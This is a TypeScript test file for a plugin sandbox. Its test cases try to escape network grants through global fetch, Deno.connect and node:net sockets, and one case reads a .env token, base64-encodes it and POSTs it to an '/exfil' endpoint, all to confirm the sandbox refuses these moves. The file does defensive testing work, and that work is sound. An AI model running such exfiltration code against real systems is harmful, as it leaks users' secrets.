import type { SandboxResult } from '@nodwyn/plugin-api/sandbox';
import { expect } from 'vitest';
import { BASE64_SOURCE, expectFailure, expectValue, failed, type EscapeCase } from './escape-case.js';
import type { RecordingServer } from './recording-server.js';

const DOOR_FETCH = "export default async (a, nodwyn) => { const r = await nodwyn.fetch(a.url); return r.status; }";

/** Every ambient route out the runtimes know, tried without catching: global fetch, Deno.connect, node:net. */
const AMBIENT_FETCH = `
export default async (a) => {
  if (typeof fetch === 'function') return (await fetch(a.url)).status;
  if (typeof Deno !== 'undefined') {
    const conn = await Deno.connect({ hostname: '127.0.0.1', port: a.port });
    conn.close();
    return 'connected';
  }
  const net = await import('node:net');
  return await new Promise((resolve, reject) => {
    const socket = net.connect(a.port, '127.0.0.1', () => { socket.end('GET / HTTP/1.0\\r\\n\\r\\n'); resolve('connected'); });
    socket.on('error', reject);
  });
};`;

function hits(server: RecordingServer, path: string): number {
  return server.seen.filter((s) => s.url.startsWith(path)).length;
}

/** Hosts outside `net` are unreachable, through the door or around it. */
export const netNotGrantedCase: EscapeCase = {
  id: 'net-not-granted',
  title: 'cannot reach a host that is not granted, through the door or around it',
  setup(f) {
    const other = (path: string) => ({ url: `${f.other.origin}${path}`, port: f.other.port });
    const refused = (path: string, label: string) => (r: SandboxResult) => {
      failed(r, label);
      expect(hits(f.other, path), `${label} reached the host`).toBe(0);
    };
    return [
      { label: 'door, other host', input: { code: DOOR_FETCH, args: other('/door'), grants: { net: [f.granted.host] } }, expect: (r) => { expectFailure(r, 'door, other host', 'PERMISSION_DENIED'); expect(hits(f.other, '/door')).toBe(0); } },
      {
        label: 'door, granted port under another name',
        input: { code: DOOR_FETCH, args: { url: `http://localhost:${f.granted.port}/alias` }, grants: { net: [f.granted.host] } },
        expect: (r) => { expectFailure(r, 'door, granted port under another name', 'PERMISSION_DENIED'); expect(hits(f.granted, '/alias')).toBe(0); },
      },
      { label: 'ambient, other host granted none', input: { code: AMBIENT_FETCH, args: other('/ambient-none') }, expect: refused('/ambient-none', 'ambient, no net') },
      { label: 'ambient, other host', input: { code: AMBIENT_FETCH, args: other('/ambient'), grants: { net: [f.granted.host] } }, expect: refused('/ambient', 'ambient, other host') },
    ];
  },
};

/** A granted host answers through the door: method, headers and body go out, status and body come back. */
export const netGrantedCase: EscapeCase = {
  id: 'net-granted',
  title: 'fetches a granted loopback host',
  setup(f) {
    f.granted.route('/echo', (seen, res) => res.writeHead(201, { 'content-type': 'text/plain' }).end(`got ${seen.method} ${seen.body}`));
    const code = `
export default async (a, nodwyn) => {
  const r = await nodwyn.fetch(a.url, { method: 'POST', headers: { 'content-type': 'text/plain', 'x-sandbox': 'yes' }, body: 'ping' });
  return { status: r.status, body: r.body, headers: typeof r.headers };
};`;
    return [
      {
        label: 'post',
        input: { code, args: { url: `${f.granted.origin}/echo` }, grants: { net: [f.granted.host] } },
        expect(r) {
          expectValue(r, 'post', { status: 201, body: 'got POST ping', headers: 'object' });
          const seen = f.granted.seen.find((s) => s.url === '/echo');
          expect(seen?.headers['x-sandbox']).toBe('yes');
        },
      },
    ];
  },
};

/** A GitHub token in the shape redact-l1 flags; the suite looks for it, and its encodings, at the servers. */
const SECRET = 'ghp_Q8vR2mZk7LwX4nT9bYc3Hs6Jd1Fp0Ga5Ue2K';
const SECRET_CLASS = 'github-token';

function expectNeverSent(server: RecordingServer): void {
  const text = JSON.stringify(server.seen);
  const raw = Buffer.from(SECRET);
  for (const form of [SECRET, raw.toString('base64'), raw.toString('base64url'), raw.toString('hex'), encodeURIComponent(raw.toString('base64'))]) expect(text).not.toContain(form);
}

/**
 * A run that read `.env` carries its secret's class: sending it, base64-encoded, is refused at a host that
 * is not granted, and at a granted host the egress edge denies the tainted request (no binding).
 */
export const exfiltrateEnvCase: EscapeCase = {
  id: 'exfiltrate-env',
  title: 'reading .env and sending it out encoded is refused, and the run is tainted',
  setup(f) {
    f.file('.env', `GITHUB_TOKEN=${SECRET}\nDEBUG=1\n`);
    const code = `${BASE64_SOURCE}
export default async (a, nodwyn) => {
  const env = await nodwyn.readFile('.env');
  const r = await nodwyn.fetch(a.url, { method: 'POST', headers: { 'content-type': 'text/plain' }, body: base64(env) });
  return r.status;
};`;
    const grants = { read: true, net: [f.granted.host] };
    return [
      {
        label: 'to a host not granted',
        input: { code, args: { url: `${f.other.origin}/exfil` }, grants },
        expect(r) {
          expectFailure(r, 'to a host not granted', 'PERMISSION_DENIED');
          expect(hits(f.other, '/exfil')).toBe(0);
          expectNeverSent(f.other);
        },
      },
      {
        label: 'to the granted host',
        input: { code, args: { url: `${f.granted.origin}/exfil` }, grants },
        expect(r) {
          expectFailure(r, 'to the granted host', 'PERMISSION_DENIED');
          expect(r.taint).toContain(SECRET_CLASS);
          expect(hits(f.granted, '/exfil')).toBe(0);
          expectNeverSent(f.granted);
        },
      },
    ];
  },
};
